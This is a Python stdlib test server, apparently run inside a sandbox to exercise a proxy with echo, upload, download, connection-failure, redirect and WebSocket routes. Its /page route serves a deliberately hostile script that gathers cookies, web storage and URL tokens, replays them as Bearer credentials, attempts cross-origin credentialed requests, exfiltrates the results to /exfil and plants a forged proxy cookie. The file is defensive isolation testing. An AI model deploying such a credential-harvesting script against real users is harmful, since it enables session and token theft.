"""A test server run INSIDE a sandbox (python3 of the default image, stdlib only) for the proxy tests.

    python3 proxy_guest_server.py PORT LOG

Listens on 127.0.0.1:PORT and appends one JSON line per request to LOG (method, target, headers).
- ``/echo``: answers JSON with the method, target and headers it got, and the body (as text);
- ``/upload``: reads the body as it comes (length or chunked), answers its size and SHA-256;
- ``/download?size=N[&chunked=1]``: N bytes of a repeated 1 MiB pattern (bytes 0..255), with a length or
  chunked;
- ``/broken[?chunked=1]``: the head and 5 bytes of the body, then the connection closes;
- ``/hangup``: no answer at all, the connection closes;
- ``/redirect``: 302 to ``/echo?from=redirect``;
- ``/ws``: a WebSocket echo (text and binary); a text ``close:CODE`` makes it close with CODE;
- ``/page?api=URL&other=URL``: an HTML page whose script tries to steal every credential it can reach (its
  address, cookies, storage, the API at ``api`` with the browser's credentials, another VM's origin at
  ``other``) and reports it all to ``/exfil?d=<JSON>`` (the log keeps it); the page sets cookies too, one for
  the whole domain and one named as the proxy's own.
"""

from __future__ import annotations

import base64
import hashlib
import json
import socketserver
import struct
import sys
from collections.abc import Iterable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PATTERN = bytes(range(256)) * 4096  # 1 MiB
PAGE = b"""<!doctype html><html><head><title>page</title></head><body><p>guest page</p><script>
document.title = "ran";
(async () => {
  const q = new URLSearchParams(location.search);
  const api = q.get("api"), other = q.get("other");
  localStorage.setItem("seen", location.href);
  const out = {
    href: location.href, search: location.search, cookie: document.cookie, referrer: document.referrer,
    name: window.name, history: history.length,
    nav: performance.getEntriesByType("navigation").map(e => e.name),
    storage: Object.assign({}, localStorage), session: Object.assign({}, sessionStorage), calls: {},
  };
  const tokens = [...q.values(), ...document.cookie.split(";").map(c => c.split("=").slice(1).join("="))];
  const tryFetch = async (key, url, opts) => {
    try { const r = await fetch(url, opts); out.calls[key] = r.status + " " + (await r.text()); }
    catch (e) { out.calls[key] = "error " + e; }
  };
  await tryFetch("me", api + "/v1/users/me", {credentials: "include"});
  for (const t of tokens) {
    await tryFetch("me:" + t, api + "/v1/users/me", {headers: {Authorization: "Bearer " + t}});
  }
  await tryFetch("self", "/echo?m=self", {credentials: "include"});
  if (other) {
    await tryFetch("other", other + "/echo?m=cross", {credentials: "include"});
    await tryFetch("other-no-cors", other + "/echo?m=cross-no-cors", {credentials: "include", mode: "no-cors"});
  }
  await fetch("/exfil?d=" + encodeURIComponent(JSON.stringify(out)));
  document.title = "done";
})();
</script></body></html>"""
WS_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
LOG = "/tmp/proxy-guest.log"


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _log(self) -> None:
        entry = {
            "method": self.command,
            "target": self.path,
            "headers": [list(h) for h in self.headers.items()],
        }
        with open(LOG, "a") as f:
            f.write(json.dumps(entry) + "\n")

    def _body_chunks(self) -> Iterator[bytes]:
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().split(b";")[0].strip(), 16)
                if size == 0:
                    while self.rfile.readline() not in (b"\r\n", b"\n", b""):
                        pass
                    return
                left = size
                while left:
                    chunk = self.rfile.read(min(left, 65536))
                    left -= len(chunk)
                    yield chunk
                self.rfile.readline()
        else:
            left = int(self.headers.get("Content-Length") or 0)
            while left:
                chunk = self.rfile.read(min(left, 65536))
                if not chunk:
                    return
                left -= len(chunk)
                yield chunk

    def _json(self, status: int, payload: object, extra: Iterable[tuple[str, str]] = ()) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for name, value in extra:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def _handle(self) -> None:
        self._log()
        route = self.path.split("?", 1)[0]
        query = dict(p.split("=", 1) for p in self.path.partition("?")[2].split("&") if "=" in p)
        if route == "/ws" and self.headers.get("Upgrade", "").lower() == "websocket":
            self._websocket()
            return
        if route == "/upload":
            digest, size = hashlib.sha256(), 0
            for chunk in self._body_chunks():
                digest.update(chunk)
                size += len(chunk)
            self._json(200, {"size": size, "sha256": digest.hexdigest()})
            return
        if route == "/download":
            self._download(int(query["size"]), query.get("chunked") == "1")
            return
        if route == "/broken":  # the head and part of the body, then the connection is cut
            self.send_response(200)
            if query.get("chunked") == "1":
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                self.wfile.write(b"5\r\nhello\r\n")
            else:
                self.send_header("Content-Length", "1000")
                self.end_headers()
                self.wfile.write(b"hello")
            self.wfile.flush()
            self.close_connection = True
            return
        if route == "/hangup":  # the request is read, the connection closed without an answer
            self.close_connection = True
            return
        if route == "/redirect":
            self.send_response(302)
            self.send_header("Location", "/echo?from=redirect")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if route == "/page":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(PAGE)))
            self.send_header("Set-Cookie", "guest=1; Domain=localhost; Path=/")
            self.send_header("Set-Cookie", "corral_proxy=forged-by-the-guest; Path=/")
            self.end_headers()
            self.wfile.write(PAGE)
            return
        if route == "/exfil":
            self._json(200, {"ok": True})
            return
        if route.startswith("/echo"):
            body = b"".join(self._body_chunks())
            payload = {
                "method": self.command,
                "target": self.path,
                "headers": [list(h) for h in self.headers.items()],
                "body": body.decode(errors="replace"),
            }
            cookies = [("Set-Cookie", "a=1"), ("Set-Cookie", "b=2"), ("X-Repeat", "1"), ("X-Repeat", "2")]
            self._json(201 if self.command == "POST" else 200, payload, cookies)
            return
        self._json(404, {"error": "no such page"})

    def _download(self, size: int, chunked: bool) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        if chunked:
            self.send_header("Transfer-Encoding", "chunked")
        else:
            self.send_header("Content-Length", str(size))
        self.end_headers()
        left = size
        while left:
            piece = PATTERN[: min(left, len(PATTERN))]
            left -= len(piece)
            if chunked:
                self.wfile.write(b"%x\r\n%b\r\n" % (len(piece), piece))
            else:
                self.wfile.write(piece)
        if chunked:
            self.wfile.write(b"0\r\n\r\n")

    # ---- WebSocket (RFC 6455, unfragmented messages) -------------------------------------------------------

    def _websocket(self) -> None:
        accept = base64.b64encode(
            hashlib.sha1(  # noqa: S324 - RFC 6455's accept key
                self.headers["Sec-WebSocket-Key"].encode() + WS_GUID
            ).digest()
        )
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", accept.decode())
        offered = [p.strip() for p in self.headers.get("Sec-WebSocket-Protocol", "").split(",") if p.strip()]
        if "echo.v1" in offered:
            self.send_header("Sec-WebSocket-Protocol", "echo.v1")
        self.end_headers()
        self.wfile.flush()
        self.close_connection = True
        while True:
            opcode, payload = self._read_frame()
            if opcode is None:
                return
            if opcode == 0x8:  # close: answer with the same code
                self._send_frame(0x8, payload[:2])
                return
            if opcode == 0x9:
                self._send_frame(0xA, payload)
            elif opcode == 0x1 and payload.startswith(b"close:"):
                self._send_frame(0x8, struct.pack("!H", int(payload[6:])) + b"bye")
                self._read_frame()  # the client's close
                return
            elif opcode in (0x1, 0x2):
                self._send_frame(opcode, payload)

    def _read_frame(self) -> tuple[int | None, bytes]:
        head = self.rfile.read(2)
        if len(head) < 2:
            return None, b""
        opcode, length = head[0] & 0x0F, head[1] & 0x7F
        if length == 126:
            length = struct.unpack("!H", self.rfile.read(2))[0]
        elif length == 127:
            length = struct.unpack("!Q", self.rfile.read(8))[0]
        mask = self.rfile.read(4) if head[1] & 0x80 else b"\0\0\0\0"
        data = self.rfile.read(length)
        return opcode, bytes(b ^ mask[i % 4] for i, b in enumerate(data))

    def _send_frame(self, opcode: int, payload: bytes) -> None:
        n = len(payload)
        if n < 126:
            head = struct.pack("!BB", 0x80 | opcode, n)
        elif n < 65536:
            head = struct.pack("!BBH", 0x80 | opcode, 126, n)
        else:
            head = struct.pack("!BBQ", 0x80 | opcode, 127, n)
        self.wfile.write(head + payload)
        self.wfile.flush()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = do_OPTIONS = _handle  # noqa: N815


if __name__ == "__main__":
    LOG = sys.argv[2]
    socketserver.TCPServer.allow_reuse_address = True
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
